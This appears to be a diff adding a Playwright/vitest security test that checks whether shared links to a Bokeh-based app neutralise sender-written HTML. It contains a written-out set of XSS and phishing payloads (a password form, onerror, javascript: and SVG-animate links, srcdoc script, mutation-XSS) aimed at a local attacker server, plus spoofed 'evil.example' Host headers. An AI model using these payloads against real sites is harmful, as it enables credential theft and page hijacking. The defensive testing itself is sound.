@@ -1,0 +1,246 @@
+// What somebody who is sent a link is safe from: the sender has a raw socket and writes whatever HTML they like.
+
+import { createServer, request, type Server } from "node:http"
+import { join } from "node:path"
+
+import type { Browser, Page } from "playwright-core"
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest"
+
+import { type BokehClient, connect, openToken, sessionIdOf } from "../support/bokeh-client.ts"
+import { documentsAreDrawn, openBrowser, openPage } from "../support/browser.ts"
+import { type RunningWorker, startWorker } from "../support/start-worker.ts"
+import { listening } from "../support/static-site.ts"
+
+interface BokehPage {
+  readonly Bokeh: { readonly documents: readonly { roots(): { value: number }[] }[] }
+}
+
+let attacker: Server
+let attackerUrl: string
+/** What reached the sender's own server. */
+let reached: string[] = []
+let worker: RunningWorker
+let browser: Browser
+beforeAll(async () => {
+  attacker = createServer(({ url = "" }, response) => {
+    if (url !== "/favicon.ico") reached.push(url)
+    response.end("gotcha")
+  })
+  attackerUrl = `http://127.0.0.1:${await listening(attacker)}`
+  worker = await startWorker({ entry: join(import.meta.dirname, "strangers-app.ts") })
+  browser = await openBrowser()
+})
+afterAll(async () => {
+  attacker.close()
+  await browser.close()
+  await worker.stop()
+})
+beforeEach(() => {
+  reached = []
+})
+
+/** All that HTML can do by itself or at a click. */
+function attackHtml(): string {
+  return `<p>Your session has ended.</p>
+    <form action="${attackerUrl}/form" method="get"><input name="password" value="secret">
+      <button id="sign-in">Sign in</button></form>
+    <form action="/board" id="own"><input name="x"></form><button form="own" id="own-form">Own</button>
+    <button formaction="${attackerUrl}/formaction" id="formaction" form="own">Other</button>
+    <meta http-equiv="refresh" content="0;url=${attackerUrl}/refresh">
+    <base href="${attackerUrl}/base/"><iframe src="${attackerUrl}/frame"></iframe>
+    <iframe srcdoc="<script>parent.location='${attackerUrl}/srcdoc'</script>"></iframe>
+    <object data="${attackerUrl}/object"></object><embed src="${attackerUrl}/embed">
+    <link rel="stylesheet" href="${attackerUrl}/style.css">
+    <script>location = "${attackerUrl}/script"</script>
+    <img src="x:" onerror="location='${attackerUrl}/onerror'">
+    <a href="${attackerUrl}/link" target="_blank" id="link">Continue</a>
+    <a href="javascript:location='${attackerUrl}/javascript'" id="javascript">Go on</a>
+    <svg width="80" height="20"><a href="${attackerUrl}/svg" id="svg"><text y="15">svg</text></a>
+      <a id="animated"><animate attributeName="href" to="${attackerUrl}/animated" fill="freeze"
+        dur="1ms"/><text x="40" y="15">svg</text></a></svg>
+    <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;a id=mutated href='${attackerUrl}/mutated'&gt;x&lt;/a&gt;">`
+}
+
+async function senderAt(path: string): Promise<{ client: BokehClient; token: string }> {
+  const token = await openToken(worker.url + path)
+  const client = await connect(`${worker.url.replace("http", "ws")}${path}/ws`, token)
+  await client.waitForMessage("ACK")
+  const { content } = await client.request("PULL-DOC-REQ")
+  const [, id = ""] = /"name":"Div","id":"(\w+)"/.exec(JSON.stringify(content)) ?? []
+  const change = { kind: "ModelChanged", model: { id }, attr: "text", new: attackHtml() }
+  const { header } = await client.request("PATCH-DOC", { events: [change] })
+  expect(header.msgtype).toBe("OK")
+  return { client, token }
+}
+
+async function linkBy(client: BokehClient, msg_type: string, msg_data: unknown): Promise<string> {
+  client.send("PATCH-DOC", { events: [{ kind: "MessageSent", msg_type, msg_data }] })
+  for (;;) {
+    // oxlint-disable-next-line no-await-in-loop -- one message after the other
+    const { content } = await client.waitForMessage("PATCH-DOC")
+    const [, link] = /"msg_type":"link","msg_data":"([^"]+)"/.exec(JSON.stringify(content)) ?? []
+    if (link !== undefined) return worker.url + link
+  }
+}
+
+type Link =
+  | "copy"
+  | "copy to look at"
+  | "viewer's invitation"
+  | "editor's invitation"
+  | "session id"
+
+async function linkOf(kind: Link, path: string): Promise<string> {
+  const { client, token } = await senderAt(path)
+  switch (kind) {
+    case "copy":
+      return linkBy(client, "publish", null)
+    case "copy to look at":
+      return `${await linkBy(client, "publish", null)}&bokeh-view`
+    case "viewer's invitation":
+      return linkBy(client, "invite", "viewer")
+    case "editor's invitation":
+      return linkBy(client, "invite", "editor")
+    case "session id":
+      return `${worker.url}${path}?bokeh-session-id=${sessionIdOf(token)}`
+    default:
+      return kind satisfies never
+  }
+}
+
+/** The visitor does all that the page invites them to. */
+async function fallForEverything(page: Page): Promise<void> {
+  const ids = [
+    "sign-in",
+    "own-form",
+    "formaction",
+    "link",
+    "javascript",
+    "svg",
+    "animated",
+    "mutated",
+  ]
+  for (const id of ids) {
+    const target = page.locator(`#${id}`)
+    // oxlint-disable no-await-in-loop -- one after the other
+    if ((await target.count()) === 0) continue
+    await target.first().dispatchEvent("click")
+    await target
+      .first()
+      .click({ force: true, timeout: 500 })
+      .catch(() => undefined)
+    // oxlint-enable no-await-in-loop
+  }
+  await page.waitForTimeout(300)
+}
+
+describe("a page that a link leads to", () => {
+  const kinds: readonly Link[] = [
+    "copy",
+    "copy to look at",
+    "viewer's invitation",
+    "editor's invitation",
+    "session id",
+  ]
+  it.each(kinds)("(%s) shows the sender's text, and nothing of it acts", async (kind) => {
+    const link = await linkOf(kind, "/board")
+    const { page } = await openPage(browser, link)
+    await documentsAreDrawn(page)
+    await page.getByText("Your session has ended.").waitFor()
+    const popups: string[] = []
+    page.on("popup", (popup) => popups.push(popup.url()))
+    await fallForEverything(page)
+    expect({ reached, popups, url: page.url() }).toEqual({ reached: [], popups: [], url: link })
+    expect(await page.locator("iframe, form, object, embed").count()).toBe(0)
+    await page.screenshot({
+      path: `dist/screenshots/strangers-${kind.replaceAll(/\W+/g, "-")}.png`,
+    })
+    await page.close()
+  })
+
+  it.each(["copy", "editor's invitation"] as const)(
+    "(%s) runs the code that the app's own document has, and says who made it",
+    async (kind) => {
+      const { page } = await openPage(browser, await linkOf(kind, "/coded"))
+      await documentsAreDrawn(page)
+      await page.evaluate(() => {
+        const { Bokeh } = globalThis as unknown as BokehPage
+        const [slider] = Bokeh.documents[0]?.roots() ?? []
+        if (slider !== undefined) slider.value = 5
+      })
+      await page.waitForFunction("document.title === 'code ran: 5'")
+      expect(await page.getByText("Somebody else made this.").isVisible()).toBe(true)
+      expect(reached).toEqual([])
+      await page.close()
+    },
+  )
+
+  it("lets no code run where the app's own document has none", async () => {
+    const { page } = await openPage(browser, await linkOf("copy", "/board"))
+    await documentsAreDrawn(page)
+    // Not in the evaluation itself, which the policy does not hold for.
+    const made = await page.evaluate(
+      () =>
+        new Promise<string>((resolve) => {
+          setTimeout(() => {
+            try {
+              // oxlint-disable-next-line typescript/no-implied-eval -- whether it is allowed
+              resolve(String(new Function("return 'made'")()))
+            } catch (error) {
+              resolve((error as Error).name)
+            }
+          })
+        }),
+    )
+    expect(made).toBe("EvalError")
+    await page.close()
+  })
+})
+
+describe("the attack", () => {
+  it("is real: on a page that is not guarded, it acts", async () => {
+    const html = `<a href="${attackerUrl}/link" id="link">x</a><iframe src="${attackerUrl}/frame"></iframe>`
+    const { page } = await openPage(
+      browser,
+      `${worker.url}/as-asked?html=${encodeURIComponent(html)}`,
+    )
+    await documentsAreDrawn(page)
+    await page.locator("#link").click()
+    await page.waitForURL(`${attackerUrl}/link`)
+    expect(reached.toSorted()).toEqual(["/frame", "/link"])
+    await page.close()
+  })
+})
+
+describe("a raw request", () => {
+  const statusFor = (headers: Record<string, string>, path = "/board") =>
+    new Promise<number>((resolve, reject) => {
+      const { hostname, port } = new URL(worker.url)
+      const sent = request({ hostname, port, path, headers }, (response) => {
+        response.resume()
+        resolve(response.statusCode ?? 0)
+      })
+      sent.on("upgrade", (_response, socket) => {
+        socket.destroy()
+        resolve(101)
+      })
+      sent.on("error", reject)
+      sent.end()
+    })
+
+  it("[H1] by a name that was made to lead here gets no page and no socket", async () => {
+    const evil = { Host: "evil.example", Origin: "http://evil.example" }
+    expect(await statusFor(evil)).toBe(421)
+    const token = await openToken(`${worker.url}/board`)
+    const upgrade = {
+      Connection: "Upgrade",
+      Upgrade: "websocket",
+      "Sec-WebSocket-Version": "13",
+      "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
+      "Sec-WebSocket-Protocol": `bokeh, ${token}`,
+    }
+    expect(await statusFor({ ...evil, ...upgrade }, "/board/ws")).toBe(421)
+    const own = new URL(worker.url).host
+    expect(await statusFor({ Host: own, Origin: worker.url, ...upgrade }, "/board/ws")).toBe(101)
+  })
+})
